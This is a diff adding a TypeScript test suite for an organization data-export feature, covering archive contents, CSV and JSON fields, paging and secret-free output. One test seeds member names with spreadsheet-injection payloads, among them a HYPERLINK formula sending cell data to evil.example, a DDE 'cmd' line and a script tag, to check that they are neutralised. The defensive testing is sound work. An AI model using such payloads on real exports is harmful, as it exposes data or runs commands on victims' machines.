@@ -1,0 +1,183 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { exportedTables } from '../../../src/domain/organizations/export/tables.ts';
+import { writeExport } from '../../../src/domain/organizations/export/write-export.ts';
+import { inspectLogo } from '../../../src/domain/organizations/inspect-logo.ts';
+import { setLogo } from '../../../src/domain/organizations/set-logo.ts';
+import { record } from '../../../src/domain/record.ts';
+import { readArchive, readCsv } from '../../setup/archive.ts';
+import { seedInvitation, seedMember, seedOrganization } from '../../setup/organization.ts';
+import { png } from './images.ts';
+import { useStage } from './setup.ts';
+
+const stage = useStage();
+
+async function exportOf(organizationId: string): Promise<Map<string, Buffer>> {
+  const folder = await mkdtemp(join(tmpdir(), 'orgdesk-test-'));
+  try {
+    await writeExport(stage.context, organizationId, join(folder, 'export.zip'));
+    return await readArchive(await readFile(join(folder, 'export.zip')));
+  } finally {
+    await rm(folder, { recursive: true });
+  }
+}
+
+const jsonIn = (files: Map<string, Buffer>) => JSON.parse(files.get('organization.json')?.toString() ?? '');
+
+describe('the export of an organization', () => {
+  it('has everything twice, for programs and for people, and says what is what', async () => {
+    const { context, database } = stage;
+    const { id, owner, ...organization } = await seedOrganization(context, { name: 'Hafen & Söhne' });
+    const invitation = await seedInvitation(
+      context,
+      { id, owner, ...organization },
+      { email: 'cleo@harbour.example' },
+    );
+    await database.authorizedDomain.create({
+      data: { organizationId: id, host: 'example.com', createdAt: context.now() },
+    });
+    await database.ticketSequence.create({ data: { organizationId: id, prefix: 'TKT', lastNumber: 41 } });
+    await database.seatChange.create({
+      data: {
+        organizationId: id,
+        fromQuantity: 5,
+        toQuantity: 3,
+        status: 'applied',
+        requestedBy: owner.userId,
+        prorationAt: context.now(),
+        amountDue: -599,
+        createdAt: context.now(),
+        sentAt: context.now(),
+        settledAt: context.now(),
+      },
+    });
+    const image = await inspectLogo(png(16, 12));
+    await setLogo(context, owner, { organizationId: id, image, requestedAt: context.now() });
+    const files = await exportOf(id);
+
+    expect([...files.keys()].sort()).toEqual(
+      [
+        'README.txt',
+        'logo.png',
+        'organization.json',
+        ...exportedTables.map(({ name }) => `${name}.csv`),
+      ].sort(),
+    );
+    expect(files.get('logo.png')).toEqual(png(16, 12));
+    expect(files.get('README.txt')?.toString()).toContain('Hafen & Söhne');
+    expect(jsonIn(files)).toMatchObject({
+      exported_at: context.now().toISOString(),
+      organization: { id, name: 'Hafen & Söhne', seats_purchased: 5, subscription_status: 'active' },
+      members: [
+        { id: owner.memberId, user_id: owner.userId, email: owner.email, role: 'owner', removed_at: null },
+      ],
+      invitations: [{ id: invitation.id, email: 'cleo@harbour.example', status: 'pending', sends: 1 }],
+      authorized_domains: [{ host: 'example.com', include_subdomains: false }],
+      ticket_sequences: [{ prefix: 'TKT', last_number: 41 }],
+      seat_changes: [{ from_quantity: 5, to_quantity: 3, amount_due: -599 }],
+      audit_trail: [{ action: 'organization.logo_set', actor_name: owner.name, before: null }],
+    });
+    expect(readCsv(files.get('members.csv'))).toMatchObject([
+      {
+        user_id: owner.userId,
+        name: 'Olivia Owner',
+        role: 'owner',
+        joined_at: context.now().toISOString(),
+        removed_at: '',
+      },
+    ]);
+    expect(readCsv(files.get('authorized_domains.csv'))).toMatchObject([
+      { host: 'example.com', include_subdomains: 'false' },
+    ]);
+    // A number of ours is a number, also below zero.
+    expect(readCsv(files.get('seat_changes.csv'))).toMatchObject([{ amount_due: '-599' }]);
+    expect(JSON.parse(readCsv(files.get('audit_trail.csv'))[0]?.after ?? '')).toMatchObject({
+      contentType: 'image/png',
+    });
+  });
+
+  it('has no secret of an invite in any form', async () => {
+    const { context, database } = stage;
+    const organization = await seedOrganization(context);
+    const { id, token } = await seedInvitation(context, organization);
+    const { tokenHash } = await database.invitation.findUniqueOrThrow({ where: { id } });
+    const hash = Buffer.from(tokenHash);
+    const all = Buffer.concat([...(await exportOf(organization.id)).values()]).toString('latin1');
+    for (const secret of [
+      token,
+      hash.toString('latin1'),
+      hash.toString('hex'),
+      hash.toString('base64'),
+      hash.toString('base64url'),
+    ]) {
+      expect(all).not.toContain(secret);
+    }
+    expect(all).not.toMatch(/hash|sealed/i);
+  });
+
+  it('gives no cell to a spreadsheet that it would take for a formula, and loses nothing of what was written', async () => {
+    const { context } = stage;
+    const organization = await seedOrganization(context);
+    const hostile = [
+      '=1+1',
+      '+44 20 7946 0000',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '=HYPERLINK("https://evil.example?"&A1,"click")',
+      "=cmd|' /C calc'!A0",
+      '＝1+1',
+      '<!channel> <script>alert(1)</script>',
+      'a "quoted", b\r\nc; d',
+      '\u2028\u202Eeman',
+      `${'x'.repeat(3000)}!`,
+      '👩‍💻 Zoë',
+    ];
+    for (const name of hostile) await seedMember(context, organization, { name });
+    const files = await exportOf(organization.id);
+    expect(jsonIn(files).members.map(({ name }: { name: string }) => name)).toEqual([
+      'Olivia Owner',
+      ...hostile,
+    ]);
+    const names = readCsv(files.get('members.csv')).map(({ name = '' }) => name);
+    expect(names.slice(1).map((name) => name.replace(/^'/, ''))).toEqual(hostile);
+    for (const cell of readCsv(files.get('members.csv')).flatMap((row) => Object.values(row))) {
+      expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
+    }
+  });
+
+  it('comes in pages and has every row once, also of an organization that has written more than a page', async () => {
+    const { context } = stage;
+    const { id } = await seedOrganization(context);
+    const other = await seedOrganization(context);
+    const line = (organizationId: string, subject: string) =>
+      ({ organizationId, by: 'The clock', action: 'invitation.expired', subject }) as const;
+    const subjects = Array.from({ length: 2500 }, (_, index) => `line ${index}`);
+    for (let from = 0; from < subjects.length; from += 500) {
+      await record(
+        context.database,
+        context,
+        subjects.slice(from, from + 500).map((subject) => line(id, subject)),
+        [],
+      );
+    }
+    await record(context.database, context, [line(other.id, 'of somebody else')], []);
+    const files = await exportOf(id);
+    expect(jsonIn(files).audit_trail.map(({ subject }: { subject: string }) => subject)).toEqual(subjects);
+    expect(readCsv(files.get('audit_trail.csv')).map(({ subject }) => subject)).toEqual(subjects);
+  });
+
+  it('leaves no table of an organization out but those that only carry work along', async () => {
+    const rows = await stage.database.$queryRaw<{ table: string }[]>`
+      SELECT DISTINCT table_name::text AS table FROM information_schema.columns
+      WHERE table_schema = 'public' AND column_name = 'organization_id'`;
+    const left = rows
+      .map(({ table }) => table)
+      .filter((name) => !exportedTables.some(({ table }) => table === name));
+    expect(left.sort()).toEqual(['billing_findings', 'logos', 'organization_deletions', 'seat_drafts']);
+  });
+});
